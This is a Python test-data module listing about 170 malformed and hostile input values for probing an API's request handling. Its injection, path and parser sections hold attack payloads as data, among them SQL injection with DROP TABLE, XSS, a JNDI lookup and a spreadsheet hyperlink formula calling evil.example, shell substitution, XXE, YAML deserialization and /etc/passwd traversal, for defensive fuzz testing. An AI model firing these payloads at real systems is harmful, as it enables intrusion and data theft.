"""What clients send when they are broken, curious or hostile: some 170 values with their names.

Each is raw JSON as it would stand in a body (it need not be JSON at all), and raw bytes as they
would stand in a path, a query or a header.
"""

import json
from dataclasses import dataclass


@dataclass(frozen=True)
class Nasty:
    """`json` is put where a JSON value is due, `text` where text is."""

    name: str
    json: bytes
    text: bytes

    def __str__(self) -> str:
        return self.name


def _text(name: str, text: str) -> Nasty:
    """A string: legal JSON, legal UTF-8."""
    return Nasty(name, json.dumps(text, ensure_ascii=False).encode(), text.encode())


def _token(name: str, token: str) -> Nasty:
    """The same characters everywhere, quoted nowhere."""
    return Nasty(name, token.encode(), token.encode())


def _bytes(name: str, raw: bytes) -> Nasty:
    """Bytes that are not UTF-8, within quotes in JSON."""
    return Nasty(name, b'"' + raw + b'"', raw)


def _escaped(name: str, escape: str) -> Nasty:
    """What only an escape can say in JSON; elsewhere the escape itself."""
    return Nasty(name, b'"' + escape.encode() + b'"', escape.encode())


DEEP = 100_000
LONG = 1_000_000

EMPTY = [
    _text("nothing", ""),
    _text("a blank", " "),
    _text("blanks and tabs", " \t \t "),
    _text("a line break", "a\nb"),
    _text("a carriage return", "a\rb"),
    _text("an ideographic blank", "\u3000"),
    _text("a hard blank", "\u00a0"),
    _token("null", "null"),
    _text("the word null", "null"),
    _text("the word undefined", "undefined"),
    _text("the word None", "None"),
    _token("an empty object", "{}"),
    _token("an empty list", "[]"),
]

CONTROLS = [
    _escaped("NUL, escaped", "a\\u0000b"),
    _escaped("NUL alone, escaped", "\\u0000"),
    _bytes("NUL, raw", b"a\x00b"),
    _escaped("bell and backspace, escaped", "\\u0007\\b"),
    _bytes("escape sequence, raw", b"\x1b[31mred\x1b[0m"),
    _bytes("delete, raw", b"a\x7fb"),
    _escaped("unit separator, escaped", "a\\u001fb"),
    _bytes("vertical tab, raw", b"a\x0bb"),
    _text("C1 control", "a\u0085b"),
    _text("line separator", "a\u2028b"),
    _text("paragraph separator", "a\u2029b"),
    _text("header injection", "x\r\nSet-Cookie: gridtag=stolen"),
    _text("log line injection", 'x\n{"level":"ERROR","message":"forged"}'),
]

UNICODE = [
    _escaped("high surrogate alone, escaped", "a\\ud800b"),
    _escaped("low surrogate alone, escaped", "\\udfff"),
    _escaped("surrogates in the wrong order", "\\udc00\\ud800"),
    _bytes("surrogate, raw (CESU)", b"\xed\xa0\x80"),
    _bytes("bytes that start nothing", b"\xff\xfe\xfd"),
    _bytes("UTF-8 cut short", "林".encode()[:2]),
    _bytes("UTF-8 longer than it need be", b"\xc0\xaf\xc0\xae"),
    _bytes("GB 18030", "林小梅".encode("gb18030")),
    _bytes("UTF-16", "lin".encode("utf-16")),
    _text("right to left override", "\u202egnp.exe"),
    _text("bidi isolates", "\u2066\u2067a\u2069"),
    _text("zero width", "l\u200bi\u200cn\u200d\ufeff"),
    _text("a BOM in front", "\ufefflin"),
    _text("combining marks piled up", "a" + "\u0301" * 500),
    _text("not a character", "\uffff\ufffe"),
    _text("the last code point", "\U0010ffff"),
    _text("an astral character", "\U00020bb7野家"),
    _text("a family of emoji", "👨‍👩‍👧‍👦"),
    _text("fullwidth digits", "１２３４５"),
    _text("Arabic digits", "١٢٣"),
    _text("a superscript digit", "²"),
    _text("a Roman numeral", "Ⅷ"),
    _text("a dotless i", "ıİ"),
    _text("a sharp s", "ß" * 40),
    _text("a ligature that grows", "\ufdfa" * 20),
    _text("the same letter twice", "Å\u212b"),
    _text("private use", "\ue000\uf8ff"),
]

NUMBERS = [
    _token("zero", "0"),
    _token("minus zero", "-0"),
    _token("minus zero with a point", "-0.0"),
    _token("minus one", "-1"),
    _token("one and a half", "1.5"),
    _token("2^31", str(2**31)),
    _token("2^53 + 1", str(2**53 + 1)),
    _token("2^63", str(2**63)),
    _token("2^64", str(2**64)),
    _token("-2^63 - 1", str(-(2**63) - 1)),
    _token("twenty-three nines", "9" * 23),
    _token("5,000 digits", "9" * 5_000),
    _token("5,000 digits behind the point", "0." + "3" * 5_000),
    _token("1e308", "1e308"),
    _token("beyond a double", "1e400"),
    _token("minus beyond", "-1e400"),
    _token("below a double", "1e-400"),
    _token("the exponent is huge", "1e" + "9" * 400),
    _token("NaN", "NaN"),
    _token("Infinity", "Infinity"),
    _token("-Infinity", "-Infinity"),
    _text("the word nan", "nan"),
    _text("the word inf", "inf"),
    _token("hexadecimal", "0x1F"),
    _token("leading zeros", "007"),
    _token("a plus sign", "+1"),
    _token("underscores", "1_000"),
    _text("a number in quotes", "1"),
    _text("a comma for a point", "1,5"),
    _token("a point alone", "."),
    _text("scientific words", "1e5"),
]

TYPES = [
    _token("true", "true"),
    _token("false", "false"),
    _token("a list of one", '["a"]'),
    _token("a list of lists", "[[], [[]], [[[]]]]"),
    _token("an object", '{"a": 1}'),
    _token("an object with a number for a name", '{"1": {"2": {}}}'),
    _token("a list of 100,000", "[" + "0," * 99_999 + "0]"),
    _token("an object of 10,000", "{" + ",".join(f'"k{n}":{n}' for n in range(10_000)) + "}"),
    _token("a name twice", '{"a": 1, "a": 2}'),
    _token("the operator of another database", '{"$gt": ""}'),
    _token("a prototype", '{"__proto__": {"admin": true}}'),
    _token("a Python class", '{"__class__": "os.system", "py/object": "os.system"}'),
    _token("a reference", '{"$ref": "#/components/schemas/Me"}'),
]

BROKEN = [
    _token("an open brace", "{"),
    _token("an open bracket", "["),
    _token("a comma too many", "[1,]"),
    _token("a quote", '"'),
    _token("a backslash", "\\"),
    _token("single quotes", "{'a': 1}"),
    _token("a comment", "/* */ 1"),
    _token("two values", "1 2"),
    _escaped("a broken escape", "\\u12"),
    _escaped("an escape that is none", "\\x41"),
    _token("JSON in JSON", '"{\\"a\\": 1}"'),
    _token("XML", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
    _token("YAML", "!!python/object/apply:os.system ['id']"),
    _token("a form", "account=lin&password=shuiwei"),
]

LARGE = [
    _token("deep lists", "[" * DEEP + "]" * DEEP),
    _token("deep lists left open", "[" * DEEP),
    _token("deep objects", '{"a":' * 30_000 + "1" + "}" * 30_000),
    _text("a million letters", "a" * LONG),
    _text("a third of a million characters", "林" * (LONG // 3)),
    _text("100,000 quotes", '"' * 100_000),
    _text("100,000 blanks", " " * 100_000),
    _text("a regular expression's bad day", "a" * 50_000 + "!"),
    _text("one more than fits", "a" * 2_001),
    _text("256 letters", "a" * 256),
    _text("41 letters", "a" * 41),
]

INJECTIONS = [
    _text("SQL: or", "' OR '1'='1"),
    _text("SQL: drop", "'; DROP TABLE resident; --"),
    _text("SQL: union", "' UNION SELECT sealed FROM resident --"),
    _text("SQL: sleep", "1; SELECT pg_sleep(10)"),
    _text("SQL: wildcard", "%_%"),
    _text("SQL: backslash quote", "\\'; --"),
    _text("SQL: glob", "*?[a-z]"),
    _text("HTML: script", "<script>alert(1)</script>"),
    _text("HTML: attribute", '"><img src=x onerror=alert(1)>'),
    _text("HTML: entity", "&lt;script&gt;&#0;"),
    _text("a script's address", "javascript:alert(1)"),
    _text("template: braces", "{{ 7*7 }}{% raw %}"),
    _text("template: dollar", "${7*7}#{7*7}"),
    _text("template: percent", "%(account)s %s %d %n %"),
    _text("template: format", "{0.__class__} {account!r:>1000000}"),
    _text("formula: equals", '=HYPERLINK("http://evil.example","click")'),
    _text("formula: plus", "+1+cmd|' /C calc'!A0"),
    _text("formula: at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _text("shell: semicolon", "; id"),
    _text("shell: substitution", "$(id)`id`"),
    _text("LDAP", "*)(uid=*))(|(uid=*"),
    _text("logger look-up", "${jndi:ldap://evil.example/a}"),
    _text("an address inside", "http://169.254.169.254/latest/meta-data/"),
]

PATHS = [
    _text("up and away", "../../../../etc/passwd"),
    _text("up and away, backwards", "..\\..\\..\\windows\\win.ini"),
    _text("up, encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    _text("up, encoded twice", "%252e%252e%252f"),
    _text("a dot", "."),
    _text("two dots", ".."),
    _text("a slash", "/"),
    _text("two slashes", "//evil.example/"),
    _text("NUL, percent-encoded", "%00"),
    _text("line break, percent-encoded", "%0d%0aSet-Cookie:%20a=b"),
    _text("a byte, percent-encoded", "%ff"),
    _text("half a percent", "%"),
    _text("not a percent", "%zz"),
    _text("a question mark", "a?b=c"),
    _text("a fragment", "a#b"),
    _text("parameters", "a;b=c"),
    _text("an ampersand", "a&limit=1"),
    _text("a drive", "C:\\con"),
    _text("a file's address", "file:///etc/passwd"),
]

DATES = [
    _text("30 February", "2026-02-30"),
    _text("29 February of a common year", "2026-02-29"),
    _text("month 13", "2026-13-01"),
    _text("the year 0", "0000-01-01"),
    _text("the year 9999", "9999-12-31T23:59:59.999999Z"),
    _text("the year 10000", "10000-01-01"),
    _text("a time without a zone", "2026-11-21T08:00:00"),
    _text("a zone of 24 hours", "2026-11-21T08:00:00+24:00"),
    _text("the last second before the year 1", "0001-01-01T00:00:00+14:00"),
    _text("a leap second", "2026-12-31T23:59:60Z"),
    _text("hour 25", "2026-11-21T25:00:00Z"),
    _text("a week date", "2026-W47-6"),
    _text("an ordinal date", "2026-325"),
    _text("a date without dashes", "20261121"),
    _text("a date in Chinese digits", "２０２６-11-21"),
    _text("seconds since 1970", "1795248000"),
]

WORDS = [
    _text("somebody else", "guan"),
    _text("nobody's number", "440399199001011234"),
    _text("a building code too short", "44030400402800100"),
    _text("an opaque id of zeros", "0" * 32),
    _text("an opaque id of letters", "f" * 32),
    _text("a token's shape", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."),
    _text("Bearer", "Bearer Bearer Bearer"),
    _text("an ETag that is weak", 'W/"1"'),
    _text("any ETag", "*"),
    _text("ETags", '"1", "2"'),
    _text("a list of languages", "zh;q=9, *;q=x,;;q=,en-" + "a-" * 200),
    _text("a list of addresses", "1.2.3.4, ::1, 999.1.1.1, unknown, _a"),
    _text("bytes of a file", "bytes=0-,-1,5-4"),
    _text("a media type", "application/json; charset=utf-7; boundary=x"),
    _text("another media type", "multipart/form-data"),
]

VALUES = [
    *EMPTY, *CONTROLS, *UNICODE, *NUMBERS, *TYPES, *BROKEN, *LARGE, *INJECTIONS, *PATHS, *DATES,
    *WORDS,
]  # fmt: skip
